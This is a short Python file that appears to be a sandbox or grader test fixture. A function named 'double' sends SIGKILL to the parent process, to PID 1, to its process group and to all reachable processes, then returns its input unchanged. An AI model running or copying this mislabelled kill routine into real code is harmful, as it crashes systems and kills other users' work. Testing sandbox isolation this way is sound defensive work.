"""Kills every process that it can see."""
# outcome: any
import os
import signal


def double(value):
    for target in (os.getppid(), 1, 0, -1):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    return value


apply = double
